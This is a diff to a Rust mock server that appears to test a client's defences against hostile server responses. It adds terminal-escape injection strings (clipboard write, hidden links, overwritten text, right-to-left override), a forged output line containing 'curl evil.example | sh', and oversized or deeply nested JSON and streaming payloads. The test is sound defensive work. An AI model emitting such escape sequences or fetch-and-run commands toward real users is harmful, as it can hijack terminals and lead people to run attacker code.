@@ -14,8 +14,19 @@ use tokio::net::{TcpListener, TcpStream};
 
 /// Text that tries to take over a terminal: clear the screen, write the clipboard
 /// (OSC 52), a link (OSC 8), a title, a carriage return and backspaces that
-/// overwrite what was printed, a C1 CSI, and a right-to-left override.
-pub const EVIL: &str = "\u{1b}[2J\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}\u{1b}]0;title\u{7}ok\rFAKE\u{8}\u{8}\u{9b}31m\u{202e}txt.exe";
+/// overwrite what was printed, a C1 CSI, a right-to-left override, and a newline
+/// that starts a line of its own ([`FORGED`]).
+pub const EVIL: &str = "\u{1b}[2J\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}\u{1b}]0;title\u{7}ok\rFAKE\u{8}\u{8}\u{9b}31m\u{202e}txt.exe\nerror: FORGED run curl evil.example | sh";
+
+/// The line [`EVIL`] tries to forge; no output line may start with it.
+pub const FORGED: &str = "error: FORGED";
+
+/// The lines of `text` (a terminal's, `\r\n` or `\n`) that [`EVIL`] forged.
+pub fn forged_lines(text: &str) -> Vec<&str> {
+    text.lines()
+        .filter(|l| l.trim_start().starts_with(FORGED))
+        .collect()
+}
 
 /// What a header value can carry past an HTTP parser (which refuses ASCII
 /// controls): a C1 CSI and a right-to-left override, as UTF-8.
@@ -43,6 +54,13 @@ pub enum Mode {
     CursorCycle,
     /// Lists with a new cursor on every page, forever.
     CursorEndless,
+    /// Lists of one page that holds millions of tiny items (`{}`), under the
+    /// 16 MiB cap of one answer.
+    ManyTinyItems,
+    /// Every answer is 200 KB of `[`: JSON nested deeper than any stack.
+    DeepJson,
+    /// Chat answers of 96 MiB, in events of 64 KiB, that then end well.
+    LongChat,
     /// Chat: the headers, then silence.
     StallAfterHeaders,
     /// Chat: one chunk, then silence.
@@ -202,6 +220,28 @@ async fn serve(
             };
             whole(&mut stream, 200, "application/json", &[], body.as_bytes()).await
         }
+        Mode::ManyTinyItems => {
+            let mut body = b"{\"data\": [".to_vec();
+            body.extend_from_slice(&b"{},".repeat(5_000_000));
+            body.extend_from_slice(b"{}], \"next_cursor\": null}");
+            whole(&mut stream, 200, "application/json", &[], &body).await
+        }
+        Mode::LongChat => {
+            let head = "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n";
+            stream.write_all(head.as_bytes()).await?;
+            let delta =
+                serde_json::json!({"choices": [{"delta": {"content": "z".repeat(64 * 1024)}}]});
+            let event = format!("data: {delta}\n\n");
+            for _ in 0..96 * 16 {
+                chunk(&mut stream, event.as_bytes()).await?;
+            }
+            chunk(&mut stream, b"data: [DONE]\n\n").await?;
+            stream.write_all(b"0\r\n\r\n").await
+        }
+        Mode::DeepJson => {
+            let body = b"[".repeat(200 * 1024);
+            whole(&mut stream, 200, "application/json", &[], &body).await
+        }
         Mode::StallAfterHeaders => {
             let head = "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n";
             stream.write_all(head.as_bytes()).await?;
@@ -256,7 +296,8 @@ async fn inject(stream: &mut TcpStream, route: &str) -> std::io::Result<()> {
             return whole(stream, 204, "application/json", &[], b"").await;
         }
         r if r.starts_with("/api-keys") => format!(
-            r#"{{"data": [{{"id": "key_evil", "name": {e}, "prefix": {e}, "created_at": {e}, "last_used_at": {e}, "created_by": {e}}}], "next_cursor": null, "id": "key_new", "key": "sk_ws_EVILEVILEVILEVILEVIL", "name": {e}}}"#
+            r#"{{"data": [{{"id": "key_evil", "name": {e}, "prefix": {e}, "created_at": {e}, "last_used_at": {e}, "created_by": {e}}}], "next_cursor": null, "id": "key_new", "key": {k}, "name": {e}}}"#,
+            k = js(&format!("sk_ws_{EVIL}"))
         ),
         "/allowed-origins" => format!(r#"{{"origins": [{e}]}}"#),
         "/integrations" => format!(
@@ -268,7 +309,9 @@ async fn inject(stream: &mut TcpStream, route: &str) -> std::io::Result<()> {
         ),
         "/push" => format!(r#"{{"push_id": {e}, "artifact_count": 1, "updated_paths": [{e}]}}"#),
         "/chat/completions" => {
-            let delta = serde_json::json!({"choices": [{"delta": {"content": EVIL}}]});
+            // An answer is data, newlines and all: only its controls are escaped.
+            let answer = EVIL.replace('\n', " ");
+            let delta = serde_json::json!({"choices": [{"delta": {"content": answer}}]});
             let err = serde_json::json!({"error": {"message": EVIL}});
             let events = format!("data: {delta}\n\ndata: {err}\n\n");
             return whole(
